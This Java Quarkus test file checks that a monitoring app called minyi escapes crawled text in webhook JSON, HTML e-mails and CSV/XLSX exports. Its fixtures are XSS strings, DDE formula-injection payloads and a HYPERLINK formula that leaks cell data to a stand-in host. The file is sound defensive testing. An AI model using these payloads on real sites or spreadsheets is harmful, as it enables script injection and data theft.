package org.minyi.security;

import static org.assertj.core.api.Assertions.assertThat;
import static org.minyi.Api.asAdmin;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.quarkus.test.junit.QuarkusTest;
import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.ZoneId;
import java.util.List;
import java.util.Map;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.minyi.Api;
import org.minyi.alert.channel.AlertMessage;
import org.minyi.alert.channel.MessageFormats;

/**
 * Crawled titles, authors and URLs leave minyi in webhook JSON, e-mails and spreadsheets: there they stay literal text,
 * never markup, a link to a non-http URL or a spreadsheet formula.
 */
@QuarkusTest
class UntrustedOutputsTest {

    static final String SCRIPT = "<script>window.__xss=1</script>";
    static final String IMG = "\"><img src=x onerror=alert(1)>";
    static final String QUOTES = "他说：\"坍塌\" \\ 反斜杠 \u2028 行分隔 \u0000 空字符 ' 单引号";

    static AlertMessage message(String title, String url, String source) {
        Instant at = Instant.parse("2011-04-02T03:00:00Z");
        return new AlertMessage("alert.opened", 42, "RED", "红色预警（I级）", "规则 " + IMG, title, "原因 " + SCRIPT, null, 1, "OPEN",
                null, at, at, "http://127.0.0.1:8080/alerts?id=42",
                List.of(new AlertMessage.Evidence(7, title, url, source, at, "negative"),
                        new AlertMessage.Evidence(8, "正常标题", "https://example.org/a?b=1&c=2", "论坛", at, "neutral")), at);
    }

    @Test
    void theWebhookPayloadIsValidJsonWithEveryTextLiteralAndOnlyHttpLinks() throws Exception {
        String title = "[点我](http://evil.example/) " + SCRIPT + IMG + QUOTES + " {\"injected\": true}";
        String source = "来源 " + IMG + " =cmd|' /C calc'!A0";
        ObjectMapper mapper = new ObjectMapper();
        String body = mapper.writeValueAsString(MessageFormats.json(mapper, message(title, "javascript:alert(document.cookie)", source)));
        JsonNode root = mapper.readTree(body); // valid JSON
        assertThat(root.path("alert").path("title").asText()).isEqualTo(title);
        assertThat(root.path("alert").path("rule").asText()).isEqualTo("规则 " + IMG);
        assertThat(root.path("alert").has("injected")).isFalse();
        assertThat(root.has("injected")).isFalse();
        JsonNode ev = root.path("evidence").get(0);
        assertThat(ev.path("title").asText()).isEqualTo(title);
        assertThat(ev.path("source").asText()).isEqualTo(source);
        assertThat(ev.path("url").isNull()).as("a javascript: URL is not passed on").isTrue();
        assertThat(root.path("evidence").get(1).path("url").asText()).isEqualTo("https://example.org/a?b=1&c=2");
        assertThat(root.path("alert").path("link").asText()).isEqualTo("http://127.0.0.1:8080/alerts?id=42");
        // the raw body holds no unescaped control characters or quotes that would end a string early
        assertThat(body).doesNotContain("\u0000").contains("\\\"坍塌\\\"");
    }

    @Test
    void theEmailHtmlBodyEscapesEveryTextAndLinksOnlyHttpUrls() {
        String title = SCRIPT + IMG + " <a href=\"javascript:alert(2)\">点我</a> <iframe src=javascript:alert(3)></iframe> 大桥坍塌";
        String source = "<b onmouseover=alert(4)>来源</b>";
        String html = MessageFormats.html(message(title, "javascript:alert(5)", source), ZoneId.of("Asia/Shanghai"));
        Document doc = Jsoup.parse(html);
        assertThat(doc.select("script, iframe, img, b, style, object, embed")).isEmpty();
        assertThat(doc.getAllElements()).allSatisfy(e -> e.attributes().forEach(a ->
                assertThat(a.getKey()).as("attribute of <%s>", e.tagName()).doesNotStartWith("on")));
        List<String> hrefs = doc.select("a").eachAttr("href");
        assertThat(hrefs).isNotEmpty().allSatisfy(h -> assertThat(h).matches("https?://.*"));
        assertThat(hrefs).containsExactlyInAnyOrder("https://example.org/a?b=1&c=2", "http://127.0.0.1:8080/alerts?id=42");
        // the payloads are shown as text, literally
        String text = doc.body().text();
        assertThat(text).contains(SCRIPT).contains(IMG).contains("<a href=\"javascript:alert(2)\">点我</a>").contains(source)
                .contains("javascript:alert(5)").contains("规则 " + IMG).contains("原因 " + SCRIPT);
        // the javascript: URL is text only, not a link
        for (Element a : doc.select("a")) {
            assertThat(a.attr("href")).doesNotContain("javascript");
        }
        // the plain-text part carries the same text as is (a mail client shows it as text)
        assertThat(MessageFormats.text(message(title, "javascript:alert(5)", source), ZoneId.of("Asia/Shanghai"))).contains(SCRIPT);
    }

    @Test
    void postExportsNeutraliseFormulasInTitlesAuthorsAndContent() throws Exception {
        String source = Api.newSource();
        List<String> formulas = List.of("=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"点我\")");
        for (int i = 0; i < formulas.size(); i++) {
            asAdmin().body(Map.of("source", source, "url", "https://example.org/formula/" + Api.unique("f"),
                    "title", formulas.get(i) + " 路灯", "author", formulas.get((i + 1) % formulas.size()),
                    "content", formulas.get((i + 2) % formulas.size()) + " " + SCRIPT + " 小区路灯坏了",
                    "publishedAt", "2024-11-0" + (i + 1) + "T05:00:00Z")).post("/api/posts").then().statusCode(201);
        }
        String q = "from=2024-11-01T00:00:00Z&to=2024-11-08T00:00:00Z&zone=UTC&source=" + source;
        byte[] bytes = asAdmin().accept("*/*").urlEncodingEnabled(false).get("/api/exports/posts.csv?" + q).then().statusCode(200)
                .extract().asByteArray();
        String csv = new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8);
        List<String> lines = csv.lines().toList();
        assertThat(lines).hasSize(1 + formulas.size());
        for (String line : lines.subList(1, lines.size())) {
            // split on commas outside quotes: every field that starts with a formula character is neutralised
            for (String field : line.split(",(?=(?:[^\"]*\"[^\"]*\")*[^\"]*$)", -1)) {
                String f = field.startsWith("\"") ? field.substring(1) : field;
                if (!f.isEmpty() && !f.matches("-?\\d+(\\.\\d+)?")) {
                    assertThat("=+-@\t\r".indexOf(f.charAt(0))).as("CSV field %s", field).isEqualTo(-1);
                }
            }
        }
        for (String f : formulas) {
            assertThat(csv).contains("'" + f.replace("\"", "\"\""));
        }
        assertThat(csv).contains(SCRIPT); // kept as text: a CSV is not HTML

        byte[] xlsx = asAdmin().accept("*/*").urlEncodingEnabled(false).get("/api/exports/posts.xlsx?" + q).then().statusCode(200)
                .extract().asByteArray();
        try (XSSFWorkbook wb = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            var sheet = wb.getSheet("帖子");
            assertThat(sheet.getLastRowNum()).isEqualTo(formulas.size());
            int neutralised = 0;
            for (int r = 1; r <= sheet.getLastRowNum(); r++) {
                for (var cell : sheet.getRow(r)) {
                    assertThat(cell.getCellType()).as("row %d col %d", r, cell.getColumnIndex()).isNotEqualTo(CellType.FORMULA);
                    if (cell.getCellType() == CellType.STRING && !cell.getStringCellValue().isEmpty()
                            && "=+-@".indexOf(cell.getStringCellValue().charAt(0)) >= 0) {
                        assertThat(cell.getCellStyle().getQuotePrefixed()).as("row %d col %d", r, cell.getColumnIndex()).isTrue();
                        neutralised++;
                    }
                }
            }
            assertThat(neutralised).as("title, author and excerpt of every row").isGreaterThanOrEqualTo(3 * formulas.size());
        }
    }
}
